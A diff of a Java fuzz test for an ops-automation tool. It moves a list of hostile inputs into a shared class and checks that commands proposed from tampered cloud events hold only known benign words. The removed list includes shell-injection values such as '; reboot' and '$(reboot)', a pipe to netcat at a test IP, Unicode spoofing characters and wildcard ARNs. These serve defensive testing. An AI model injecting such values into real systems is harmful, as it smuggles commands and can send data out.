@@ -4,33 +4,19 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
-import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
 import io.millrace.domain.BusEvent;
 import io.millrace.domain.Command;
-import io.millrace.domain.CommandStatus;
 import io.millrace.domain.EventKind;
 import io.millrace.domain.EventStatus;
 import io.millrace.domain.GuardState;
 import io.millrace.domain.OpsEvent;
 import io.millrace.domain.Origin;
-import io.millrace.domain.Signal;
-import io.millrace.domain.ThreadState;
-import io.millrace.domain.ThreadStatus;
 import io.millrace.domain.guard.Guarding;
 import io.millrace.domain.thread.ThreadSettings;
 import io.millrace.domain.thread.Threading;
 import io.millrace.models.analyst.LocalAnalyst;
-import io.millrace.operators.parse.EventParser;
-import io.millrace.operators.parse.EventParserSettings;
-import io.millrace.operators.parse.Raws;
-import io.millrace.runbooks.Content;
-import io.millrace.runbooks.ContentBundle;
-import io.millrace.runbooks.ladder.LadderStep;
-import io.millrace.runbooks.ladder.Ladders;
+import io.millrace.testing.hostile.HostileWords;
 import java.io.IOException;
-import java.io.UncheckedIOException;
-import java.nio.file.Files;
-import java.nio.file.Path;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
@@ -52,44 +38,9 @@ import org.junit.jupiter.api.Test;
  * examples, so that what is added later is tried as well.
  */
 class HostileCommandsTest {
-    private static final Content CONTENT = ContentBundle.shipped().compile();
-    private static final Path EXAMPLES = Path.of("..", "runbooks", "catalog", "examples");
-    private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());
     private static final ObjectMapper JSON = new ObjectMapper();
-    private static final EventParser PARSER = new EventParser(EventParserSettings.defaults());
     private static final EntryCheck CHECK = new EntryCheck();
     private static final String INSTANCE = "i-0c2f5e7a91d34b680";
-
-    private static final List<String> HOSTILE = List.of(
-            "",
-            " ",
-            "; reboot",
-            "$(reboot)",
-            "`reboot`",
-            "| nc 203.0.113.1 80",
-            "{{ssm:secret}}",
-            "{{ global:ACCOUNT_ID }}",
-            "${IFS}",
-            "\n",
-            "\r\nInstanceId: *",
-            "\u0000",
-            "*",
-            "?",
-            "'\"\\",
-            "\u202e",
-            "\u200b",
-            "\u0456-0c2f5e7a91d34b680",
-            "\uff0f",
-            "\ud800",
-            "%00",
-            "<!channel> <@U1>",
-            "[x](https://example.invalid)",
-            "{\"InstanceId\": [\"*\"]}",
-            "- a\n- b: {c: *}",
-            "arn:aws:ec2:eu-west-1:444455556666:instance/" + INSTANCE,
-            "arn:aws:ec2:us-east-1:111122223333:instance/" + INSTANCE,
-            "arn:aws:ec2:*:*:instance/*",
-            "x".repeat(10_240));
 
     /** What steers a display and says nothing. */
     private static final Pattern STEERS = Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Cs}&&[^\\n]]");
@@ -99,15 +50,15 @@ class HostileCommandsTest {
     };
 
     private static final List<OpsEvent> BENIGN = benign();
-    private static final Set<String> WORDS = words();
+    private static final Set<String> WORDS = Proposals.words(BENIGN);
 
     @Test
     void everyRunbookThatShipsIsTried() {
         var tried = new TreeSet<String>();
-        BENIGN.forEach(event -> commands(event).forEach(command -> tried.add(command.getRunbook())));
+        BENIGN.forEach(event -> Proposals.of(event).forEach(command -> tried.add(command.getRunbook())));
 
         assertThat(tried)
-                .containsAll(CONTENT.runbooks().all().entrySet().stream()
+                .containsAll(Proposals.CONTENT.runbooks().all().entrySet().stream()
                         .filter(runbook -> !runbook.getValue().mode().word().equals("off"))
                         .map(Map.Entry::getKey)
                         .toList());
@@ -120,17 +71,15 @@ class HostileCommandsTest {
         int nothing = 0;
         for (OpsEvent event : BENIGN) {
             for (Field field : fields(event)) {
-                for (String hostile : HOSTILE) {
+                for (String hostile : HostileWords.ALL) {
                     for (String value : List.of(hostile, field.was + hostile, hostile + field.was)) {
                         OpsEvent said = with(event, field, value);
-                        List<Command> given = commands(said);
+                        List<Command> given = Proposals.of(said);
                         tried++;
                         commands += given.isEmpty() ? 0 : 1;
                         nothing += given.isEmpty() ? 1 : 0;
                         for (Command command : given) {
-                            assertThat(saysNothing(command, said))
-                                    .as("%s says %s in %s", command, value, field.name)
-                                    .isTrue();
+                            Proposals.assertConsistsOf(WORDS, command, said);
                         }
                     }
                 }
@@ -151,8 +100,8 @@ class HostileCommandsTest {
                     values.put(name, figure);
                     var said = OpsEvent.newBuilder(event).setValues(values).build();
 
-                    for (Command command : commands(said)) {
-                        assertThat(saysNothing(command, said)).as("%s", command).isTrue();
+                    for (Command command : Proposals.of(said)) {
+                        Proposals.assertConsistsOf(WORDS, command, said);
                         told(command);
                     }
                 }
@@ -171,18 +120,18 @@ class HostileCommandsTest {
         OpsEvent said = event;
         int at = 0;
         for (Field field : fields(event)) {
-            String hostile = HOSTILE.get((word + at * (1 + other)) % HOSTILE.size());
+            String hostile = HostileWords.ALL.get((word + at * (1 + other)) % HostileWords.ALL.size());
             at++;
             if ((other + at) % 3 > 0) {
                 said = with(said, field, field.was + hostile);
             }
         }
-        for (Command command : commands(said)) {
-            assertThat(saysNothing(command, said)).isTrue();
+        for (Command command : Proposals.of(said)) {
+            Proposals.assertConsistsOf(WORDS, command, said);
             told(command);
         }
         var threading = new Threading(ThreadSettings.defaults());
-        var step = threading.onSignal(List.of(), signal(said));
+        var step = threading.onSignal(List.of(), Proposals.signal(said));
         if (step.state().isEmpty()) {
             return;
         }
@@ -214,106 +163,14 @@ class HostileCommandsTest {
 
     /** What the guard answers, whichever way, is told within the contract. */
     private static void told(Command proposed) {
-        var guarding = new Guarding(CONTENT.guardrails());
+        var guarding = new Guarding(Proposals.CONTENT.guardrails());
         var state = GuardState.newBuilder().setGrants(List.of()).build();
         Command answer = guarding.decide(state, calendar -> null, proposed).orElseThrow();
         assertThat(answer.getReason()).isNotEmpty();
         BusEvents.of(answer)
                 .ifPresent(entry ->
                         assertThat(CHECK.violation(entry)).as("%s", entry).isEmpty());
-        var granted = Command.newBuilder(proposed)
-                .setStatus(CommandStatus.GRANTED)
-                .setReason("granted")
-                .build();
-        assertThat(CHECK.violation(BusEvents.of(granted).orElseThrow())).isEmpty();
-    }
-
-    /** Each part is one of the benign runs' words, a number, or the event's own account and Region. */
-    private static boolean saysNothing(Command command, OpsEvent event) {
-        var parts = new ArrayList<String>();
-        parts.add(command.getAction());
-        parts.add(command.getStep());
-        parts.add(command.getRunbook());
-        parts.add(command.getAccount());
-        parts.add(command.getRegion());
-        parts.add(command.getTarget());
-        command.getParameters().forEach((name, values) -> {
-            parts.add(name);
-            parts.addAll(values);
-        });
-        return command.getAccount().equals(event.getAccount())
-                && command.getRegion().equals(event.getRegion())
-                && parts.stream().allMatch(part -> WORDS.contains(part) || part.matches("-?[0-9]{1,18}"));
-    }
-
-    /** All parts of all commands of all benign runs, and what these events say in full. */
-    private static Set<String> words() {
-        var words = new TreeSet<String>();
-        for (OpsEvent event : BENIGN) {
-            for (Command command : commands(event)) {
-                words.addAll(List.of(
-                        command.getAction(),
-                        command.getStep(),
-                        command.getRunbook(),
-                        command.getAccount(),
-                        command.getRegion(),
-                        command.getTarget()));
-                command.getParameters().forEach((name, values) -> {
-                    words.add(name);
-                    words.addAll(values);
-                });
-            }
-        }
-        return words;
-    }
-
-    private static List<Command> commands(OpsEvent event) {
-        LadderStep step = new Ladders(CONTENT.runbooks()).onSignal(thread(event), signal(event));
-        assertThat(step.escalations()).allMatch(reason -> reason.matches("[ -~]{1,600}"));
-        return step.commands();
-    }
-
-    private static ThreadState thread(OpsEvent event) {
-        return new Threading(ThreadSettings.defaults())
-                .onSignal(List.of(), signal(event))
-                .state()
-                .orElseGet(() -> ThreadState.newBuilder()
-                        .setThreadId("thread")
-                        .setScope("shop")
-                        .setStatus(ThreadStatus.OPEN)
-                        .setTitle("a thread")
-                        .setSeverity(4)
-                        .setPriority(2)
-                        .setService("checkout")
-                        .setOwner("team")
-                        .setAccount(event.getAccount())
-                        .setRegion(event.getRegion())
-                        .setContentVersion("v1")
-                        .setOpenedAt(event.getEventTime())
-                        .setLastEventAt(event.getEventTime())
-                        .setUpdatedAt(event.getArrivedAt())
-                        .setVersion(1)
-                        .setEventCount(1)
-                        .setMembers(List.of())
-                        .setIdentities(List.of())
-                        .setResources(List.of())
-                        .build());
-    }
-
-    private static Signal signal(OpsEvent event) {
-        return Signal.newBuilder()
-                .setEvent(event)
-                .setScope("shop")
-                .setContentVersion(CONTENT.version())
-                .setOccurrenceId("occurrence-1")
-                .setFlapCount(1)
-                .setSeverity(4)
-                .setService("checkout")
-                .setTier("1")
-                .setEnvironment("production")
-                .setOwner("checkout-team")
-                .setRule("test")
-                .build();
+        Proposals.assertPublishable(proposed);
     }
 
     /** One text of an event, and how to say another in its place. */
@@ -378,41 +235,8 @@ class HostileCommandsTest {
         events.add(condition("high-cpu", 85, Map.of("InstanceId", INSTANCE)));
         events.add(condition("high-cpu", 95, Map.of("InstanceId", INSTANCE)));
         events.add(condition("memory-leak", 88, Map.of("InstanceId", INSTANCE)));
-        if (Files.isDirectory(EXAMPLES)) {
-            try (var files = Files.list(EXAMPLES)) {
-                for (Path file : files.sorted().toList()) {
-                    for (JsonNode example :
-                            YAML.readTree(Files.readString(file)).get("examples")) {
-                        if (example.has("command")) {
-                            events.add(event(example));
-                        }
-                    }
-                }
-            } catch (IOException e) {
-                throw new UncheckedIOException(e);
-            }
-        }
-        // patches wait for their window
-        events.stream()
-                .filter(event -> event.getDetailType().equals("Configuration Compliance State Change"))
-                .forEach(event -> event.setArrivedAt(Instant.parse("2026-08-09T02:10:00Z")));
+        events.addAll(Proposals.shown());
         return events;
-    }
-
-    private static OpsEvent event(JsonNode example) {
-        JsonNode condition = example.path("condition");
-        if (condition.isMissingNode()) {
-            return PARSER.parse(Raws.raw(example.get("record").toString()))
-                    .events()
-                    .get(0);
-        }
-        var dimensions = new TreeMap<String, String>();
-        condition
-                .path("dimensions")
-                .fields()
-                .forEachRemaining(
-                        field -> dimensions.put(field.getKey(), field.getValue().asText()));
-        return condition(condition.get("id").asText(), condition.path("value").asDouble(), dimensions);
     }
 
     /** As the score stage makes it. */
